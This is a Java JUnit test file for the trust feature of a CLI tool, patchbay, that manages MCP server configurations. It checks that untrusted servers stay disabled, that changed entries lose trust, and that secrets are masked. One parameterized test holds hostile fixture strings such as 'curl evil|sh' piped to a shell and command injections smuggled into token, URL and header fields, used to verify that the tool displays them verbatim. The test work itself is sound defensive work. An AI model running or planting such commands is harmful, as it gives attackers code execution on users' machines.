package dev.patchbay.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.patchbay.cli.CommandBench;
import dev.patchbay.json.RawJson;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TrustServersTest {
    private static final String TWO =
            """
            {"mcpServers": {
              "a": {"command": "run", "args": ["-x"], "env": {"NODE_OPTIONS": "--require ./a.js", "KEY": "s3cret"}},
              "b": {"url": "https://host.example/mcp", "headers": {"Authorization": "Bearer s3cret"}}
            }}
            """;

    @TempDir private Path folder;

    private CommandBench bench;

    @BeforeEach
    void makeFolders() {
        bench = new CommandBench(folder);
    }

    private int run(String... arguments) {
        return bench.run(arguments);
    }

    private void write(String file, String text) throws IOException {
        Files.writeString(folder.resolve("work").resolve(file), text);
    }

    /** The status of each server, as the list has it. */
    private String list() {
        assertThat(run("list", "--no-connect", "--json")).isZero();
        var text = new StringBuilder();
        RawJson.parse(bench.out())
                .tree()
                .path("servers")
                .forEach(server ->
                        text.append(server.path("id").asText())
                                .append(' ')
                                .append(server.path("status").asText())
                                .append(", "));
        return text.toString();
    }

    @ParameterizedTest
    @ValueSource(strings = {"patchbay.json", ".mcp.json"})
    void whatWasFoundIsUntrustedUntilItIsTrusted(String file) throws IOException {
        write(file, TWO);

        assertThat(list()).isEqualTo("a untrusted, b untrusted, ");
        assertThat(run("list", "--no-connect")).isZero();
        assertThat(bench.err())
                .isEqualTo(
                        "2 servers are not trusted and not used; patchbay trust --show shows the"
                                + " entries, and patchbay trust trusts them\n"
                                + "The servers are in /work/"
                                + file
                                + "\n");

        assertThat(run("trust")).isZero();
        assertThat(bench.out())
                .isEqualTo(
                        """
                        Trusted a in /work/FILE
                          command: run
                          args: -x
                          env:
                            NODE_OPTIONS: --require ./a.js
                            KEY: ***
                        Trusted b in /work/FILE
                          url: https://host.example/mcp
                          headers:
                            Authorization: ***
                        """
                                .replace("FILE", file));
        assertThat(list()).isEqualTo("a enabled, b enabled, ");
    }

    /** The author of a file must not be able to hide what runs from the user who decides. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "x=require('child_process').execSync('curl evil|sh')",
                "TOKEN=1; curl evil|sh",
                "curl https://good.example/?; curl evil|sh",
                "Authorization: Bearer x; curl evil|sh",
                "sk-x; curl evil|sh",
                "https://a:b; curl evil|sh@good.example/"
            })
    void whatDecidesWhatRunsIsShownAsItStands(String hostile) throws IOException {
        var text = RawJson.of(out -> out.value(hostile));
        write(
                "patchbay.json",
                "{\"mcpServers\":{\"a\":{\"command\":\"node\",\"args\":[\"-e\","
                        + text
                        + ",\"-p\","
                        + text
                        + ",\"--token\","
                        + text
                        + "],\"env\":{\"_JAVA_OPTIONS\":"
                        + text
                        + ",\"API_TOKEN\":\"s3cret\"}}}}");

        assertThat(run("trust", "--show")).isEqualTo(1);
        assertThat(bench.out().split(java.util.regex.Pattern.quote("curl evil|sh"), -1)).hasSize(5);
        assertThat(bench.out()).contains("API_TOKEN: ***").doesNotContain("s3cret");
    }

    @Test
    void oneServerCanBeTrustedAlone() throws IOException {
        write("patchbay.json", TWO);

        assertThat(run("trust", "b")).isZero();
        assertThat(list()).isEqualTo("a untrusted, b enabled, ");
        assertThat(run("trust", "b", "c")).isEqualTo(1);
        assertThat(bench.err()).contains("There is no server c in /work/patchbay.json");
    }

    @Test
    void whatIsTrustedIsLeftOutWhenItChanges() throws IOException {
        write("patchbay.json", TWO);
        assertThat(run("trust")).isZero();
        write("patchbay.json", TWO.replace("./a.js", "./b.js"));

        assertThat(list()).isEqualTo("a untrusted, b enabled, ");
        assertThat(run("validate")).isZero();
        assertThat(bench.out())
                .isEqualTo(
                        """
                        warning /work/patchbay.json:2: mcpServers.a has changed since it was trusted, so it is left out; \
                        in this folder, patchbay trust a trusts the current entry, and patchbay trust --show shows it
                        /work/patchbay.json: 1 server can be used
                        """);
        assertThat(run("trust", "--show")).isEqualTo(1);
        assertThat(bench.out())
                .startsWith(
                        """
                        /work/patchbay.json
                        a: changed since it was trusted: env.NODE_OPTIONS
                          command: run
                        """)
                .endsWith("b: trusted\n")
                .doesNotContain("s3cret");
        assertThat(list()).isEqualTo("a untrusted, b enabled, ");
    }

    @Test
    void whatIsNewOrGoneIsShown() throws IOException {
        write("patchbay.json", TWO);
        assertThat(run("trust")).isZero();
        assertThat(run("trust", "--show")).isZero();
        write(
                "patchbay.json",
                "{\"servers\": {\"c\": {\"command\": \"x\"}, \"b\": {\"command\": \"x\"}}}");

        assertThat(run("trust", "--show", "--json")).isEqualTo(1);
        assertThat(bench.out())
                .isEqualTo(
                        "{\"file\":\"/work/patchbay.json\",\"entries\":["
                                + "{\"id\":\"c\",\"state\":\"new\",\"changed\":[]},"
                                + "{\"id\":\"b\",\"state\":\"changed\",\"changed\":[\"command\",\"headers"
                                + ".Authorization\",\"url\"]},"
                                + "{\"id\":\"a\",\"state\":\"gone\",\"changed\":[]}]}\n");
        assertThat(run("trust")).isZero();
        assertThat(run("trust", "--show")).isZero();
        assertThat(bench.out()).doesNotContain("a:");
    }

    @Test
    void trustCanBeTakenBack() throws IOException {
        write("patchbay.json", TWO);
        assertThat(run("trust")).isZero();

        assertThat(run("trust", "--revoke", "a")).isZero();
        assertThat(bench.out()).isEqualTo("Not trusted any more: a in /work/patchbay.json\n");
        assertThat(list()).isEqualTo("a untrusted, b enabled, ");
        // Also where the file is gone, as it may come back.
        Files.delete(folder.resolve("work/patchbay.json"));
        assertThat(run("trust", "--revoke")).isZero();
        assertThat(run("trust", "--revoke")).isZero();
        assertThat(bench.err()).isEqualTo("There was no trust to revoke here\n");
        write("patchbay.json", TWO);
        assertThat(list()).isEqualTo("a untrusted, b untrusted, ");
    }

    @Test
    void filesThatAreNamedAndTheUsersOwnNeedNoTrust() throws IOException {
        write("patchbay.json", TWO);
        assertThat(run("list", "--no-connect", "--config", "patchbay.json")).isZero();
        assertThat(bench.out()).contains("a   enabled");
        assertThat(bench.run(Optional.of("patchbay.json"), "list", "--no-connect")).isZero();
        assertThat(bench.out()).contains("a   enabled");

        Files.delete(folder.resolve("work/patchbay.json"));
        var own = Files.createDirectories(folder.resolve("home/.config/patchbay"));
        Files.writeString(own.resolve("patchbay.json"), TWO);
        assertThat(list()).isEqualTo("a enabled, b enabled, ");
        assertThat(run("trust")).isEqualTo(1);
        assertThat(bench.err())
                .isEqualTo(
                        "patchbay: There is nothing to trust: none of these files exists: /work/patchbay.json,"
                                + " /work/.mcp.json\n");
    }

    @Test
    void whatCommandsWriteIsTrustedAndNothingElse() throws IOException {
        write("patchbay.json", TWO);
        write("other.json", "{\"mcpServers\": {\"d\": {\"command\": \"x\"}}}");

        assertThat(run("add", "c", "--", "x", "${HOME:-}")).isZero();
        assertThat(run("import", "other.json")).isZero();
        assertThat(list()).isEqualTo("a untrusted, b untrusted, c enabled, d enabled, ");

        assertThat(run("disable", "c")).isZero();
        assertThat(bench.err()).isEmpty();
        assertThat(run("disable", "a")).isZero();
        assertThat(list()).isEqualTo("a untrusted, b untrusted, c disabled, d enabled, ");
        assertThat(run("enable", "c")).isZero();
        assertThat(list()).isEqualTo("a untrusted, b untrusted, c enabled, d enabled, ");

        assertThat(run("remove", "d")).isZero();
        var now = Files.readString(folder.resolve("work/patchbay.json"));
        write("patchbay.json", now.replaceFirst("\"a\": ", "\"d\": {\"command\": \"x\"}, \"a\": "));
        assertThat(list()).startsWith("d untrusted, ");
    }

    @Test
    void oneIdInTwoFoldersIsTwoThings() throws IOException {
        write("patchbay.json", TWO);
        assertThat(run("trust")).isZero();
        Files.move(folder.resolve("work"), folder.resolve("elsewhere"));
        Files.createDirectory(folder.resolve("work"));
        write("patchbay.json", TWO);
        assertThat(list()).isEqualTo("a enabled, b enabled, ");

        // Through a link that leads elsewhere, relative paths mean something else.
        Files.delete(folder.resolve("work/patchbay.json"));
        Files.delete(folder.resolve("work"));
        Files.createSymbolicLink(folder.resolve("work"), Path.of("elsewhere"));
        assertThat(list()).isEqualTo("a untrusted, b untrusted, ");
    }

    @Test
    void whatTheHubIsToldIsTrustedByItsId() throws IOException {
        var text =
                """
                {"mcpServers": {"a": {"command": "x"}}, "hub": {"profiles": {"p": {"readOnlyOnly": true}}}}
                """;
        write("patchbay.json", text);
        assertThat(run("trust", "a")).isZero();
        assertThat(run("validate")).isZero();
        assertThat(bench.out()).contains("hub is not trusted, so profiles show nothing");

        assertThat(run("trust", "hub")).isZero();
        assertThat(run("validate")).isZero();
        assertThat(bench.out()).isEqualTo("/work/patchbay.json: 1 server can be used\n");
        write("patchbay.json", text.replace("true", "false"));
        assertThat(run("trust", "--show")).isEqualTo(1);
        assertThat(bench.out()).contains("hub: changed since it was trusted: profiles.p");
    }

    @Test
    void whereTrustCannotBeKeptThatIsSaidAndNothingIsTrusted() throws IOException {
        Files.writeString(folder.resolve("home/.local"), "in the way");

        assertThat(run("add", "a", "x")).isEqualTo(1);
        assertThat(bench.err()).contains("a could not be trusted, so the hub leaves it out");
        assertThat(list()).isEqualTo("a untrusted, ");
        assertThat(run("trust")).isEqualTo(1);
        assertThat(list()).isEqualTo("a untrusted, ");
        // Whoever names the file needs none.
        assertThat(run("add", "b", "--config", "patchbay.json", "x")).isZero();
    }

    @Test
    void itIsOneOrTheOther() {
        assertThat(run("trust", "--show", "--revoke")).isEqualTo(2);
        assertThat(List.of(bench.err().split("\n")).getFirst())
                .isEqualTo("patchbay: --show and --revoke must not be used together");
    }
}
